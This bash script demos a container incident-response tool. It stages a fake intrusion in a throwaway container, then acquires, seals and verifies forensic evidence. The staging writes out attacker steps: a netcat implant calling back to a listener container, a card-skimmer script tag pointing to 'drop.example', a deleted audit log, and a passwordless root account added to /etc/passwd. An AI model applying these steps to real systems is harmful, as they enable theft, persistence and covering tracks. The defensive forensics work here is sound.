#!/usr/bin/env bash
# The main job on a staged intrusion: a suspect container becomes a sealed bundle, which is verified with cir and with stock tools. Cleans up after itself.
#   ./demo.sh              the main job
#   ./demo.sh --playbook   two playbooks on two staged incidents: evidence first, approved containment proven and undone exactly
set -euo pipefail
cd "$(dirname "$(readlink -f "$0")")"
. tests/engine.sh

say() { printf '\n\033[1m%s\033[0m\n' "$*"; }
[ -t 1 ] || say() { printf '\n## %s\n' "$*"; }
run() { printf '$ %s\n' "$*"; "$@"; }
label=containerir.demo=1

case "${1:-}" in '' | --playbook) ;; *) sed -n '3,4s/^# *//p' "$0" >&2; exit 2 ;; esac
need /bin/busybox:busybox-static openssl:openssl zstd:zstd sha256sum:coreutils diff:diffutils
cir=${CIR:-$PWD/out/cir} # CIR: another build of it
[ -n "${CIR:-}" ] || ./build.sh
engine_up
work=$(mktemp -d /tmp/cir-demo.XXXXXX)

undo_changes() { :; } # the playbooks' demo makes some
remove_stage() {
  local left
  left=$(docker ps -aq --filter "label=$label")
  [ -z "$left" ] || docker rm -f -v $left >/dev/null
  docker network rm cir-demo-net >/dev/null 2>&1 || true
  docker rmi -f cir-demo/shop:1.4 cir-demo/base:12 >/dev/null 2>&1 || true
}
finish() {
  undo_changes
  remove_stage
  engine_down
  rm -rf "$work"
}
trap finish EXIT
trap 'exit 130' INT TERM
remove_stage

make_images() {
  local applet app
  root=$work/base
  mkdir -p "$root"/{bin,etc,tmp,root,proc,sys,dev,srv/shop,var/log}
  cp /bin/busybox "$root/bin/busybox"
  for applet in $(/bin/busybox --list); do [ "$applet" = busybox ] || ln -s busybox "$root/bin/$applet"; done
  printf 'root:x:0:0:root:/root:/bin/sh\nshop:x:1000:1000:shop:/srv/shop:/bin/sh\n' >"$root/etc/passwd"
  tar -C "$root" -c . | docker import --message "base system" - cir-demo/base:12 >/dev/null
  app=$(docker create --label "$label" cir-demo/base:12 true)
  mkdir -p "$work/app/srv/shop" "$work/app/etc"
  echo '<h1>Shop</h1>' >"$work/app/srv/shop/index.html"
  echo 'payments=live' >"$work/app/etc/shop.conf"
  echo 'every login is written here' >"$work/app/srv/shop/audit.log"
  tar -C "$work/app" --owner=0 --group=0 -c . | docker cp - "$app":/
  docker commit --message "the shop itself" --change 'CMD ["httpd","-f","-v","-p","8080","-h","/srv/shop"]' "$app" cir-demo/shop:1.4 >/dev/null
  docker rm "$app" >/dev/null
}

if [ "${1:-}" = --playbook ]; then
  . tests/demo-playbooks.sh
  exit 0
fi

say "1. The stage: a small shop, and somebody who got in"
make_images
docker network create --label "$label" cir-demo-net >/dev/null
docker run -d --label "$label" --name cir-demo-drop --network cir-demo-net cir-demo/base:12 nc -ll -p 4444 -e cat >/dev/null
docker run -d --label "$label" --name cir-demo-shop --network cir-demo-net --cap-add SYS_PTRACE \
  -e DB_PASSWORD=hunter2 -e AWS_SECRET_ACCESS_KEY=wJalrEXAMPLEKEY cir-demo/shop:1.4 >/dev/null
# The intruder: an implant that deletes its own executable and keeps a line open, a changed page, a removed log, a new account.
docker exec cir-demo-shop sh -c 'mkdir -p /tmp/.x11; cp /bin/busybox /tmp/.x11/nc'
docker exec -d cir-demo-shop sh -c 'while :; do echo id=shop-1; sleep 2; done | /tmp/.x11/nc cir-demo-drop 4444'
docker exec cir-demo-shop sh -c '
  echo "<script src=//drop.example/skim.js></script>" >>/srv/shop/index.html
  rm /srv/shop/audit.log
  echo "svc::0:0::/root:/bin/sh" >>/etc/passwd
  printf "#!/bin/sh\nexec nc cir-demo-drop 4444\n" >/tmp/.x11/run; chmod 755 /tmp/.x11/run
  wget -q -O /dev/null http://127.0.0.1:8080/
  rm /tmp/.x11/nc'
implant_runs() { # seen from the host: its executable is deleted, its line to the second container is open
  local exe
  for exe in /proc/[0-9]*/exe; do
    if [ "$(readlink "$exe" 2>/dev/null)" = "/tmp/.x11/nc (deleted)" ]; then
      grep -q ':115C 01 ' "${exe%exe}net/tcp" 2>/dev/null && return 0 # 4444, ESTABLISHED
    fi
  done
  return 1
}
tries=0
until implant_runs; do
  [ $((tries += 1)) -le 100 ] || { echo "the staged implant did not start" >&2; exit 1; }
  sleep 0.1
done
echo "Two containers run: cir-demo-shop (the suspect) and cir-demo-drop (where its implant reports to)."

export CIR_HOME=$work/home CIR_CHANGES=$work/changes CIR_PASSPHRASE=demo-passphrase

say "2. What is on this host?"
run "$cir" containers

say "3. Acquire: one command, most volatile first, nothing executed inside the container"
code=0
run "$cir" acquire cir-demo-shop --case DEMO-1 --examiner "Demo Responder" --reason "skimming reported on the checkout page" --out "$work/bundles" || code=$?
[ "$code" = 0 ] || [ "$code" = 4 ] || { echo "acquire failed with exit code $code" >&2; exit 1; }
bundle=$(echo "$work"/bundles/EV-*)

say "4. What was found"
run "$cir" case show DEMO-1

say "5. Is the bundle what was sealed? Our word:"
run "$cir" verify "$bundle"

say "6. The same with openssl and sha256sum alone (what a laboratory does)"
cd "$bundle"
run openssl cms -verify -cades -binary -inform DER -in seal/0001-responder.p7s -content tagmanifest-sha256.txt -CAfile seal/certs.pem -out /dev/null
run sha256sum --check --strict --quiet tagmanifest-sha256.txt
run sha256sum --check --strict --quiet manifest-sha256.txt
run sha512sum --check --strict --quiet manifest-sha512.txt
echo '$ find data ! -type d | sort   compared with the manifest'
find data ! -type d | LC_ALL=C sort | diff - <(sed 's/^[0-9a-f]*  //' manifest-sha256.txt | LC_ALL=C sort)
echo "All of it holds: signature, $(wc -l <manifest-sha256.txt) files under data/, no file too many."

say "7. The changed files, by zstd and GNU tar (character devices 0,0 are deletions)"
zstd -dcq data/*-rootfs-diff/upper.tar.zst | tar --numeric-owner -tvf - | grep -v '/$'
cd - >/dev/null

say "8. And if one byte changes?"
cp -r "$bundle" "$work/forged"
printf 'X' | dd of="$(echo "$work"/forged/data/*-configuration/inspect.json)" bs=1 seek=100 conv=notrunc status=none
if "$cir" verify "$work/forged" >"$work/forged.txt"; then echo "the forged bundle passed: a defect" >&2; exit 1; fi
grep -E 'FAIL|TAMPERED' "$work/forged.txt" || { cat "$work/forged.txt"; exit 1; }

say "What to do next"
cat <<TXT
  On a host of yours:    ./out/cir containers
                         ./out/cir acquire CONTAINER --case CASE-1
  See it contained:      ./demo.sh --playbook
  Hand the bundle over:  copy the EV-... folder; the laboratory follows its README.txt, or docs/evidence-format.md
  This demo's containers, network, images, case and keys are removed now.
TXT
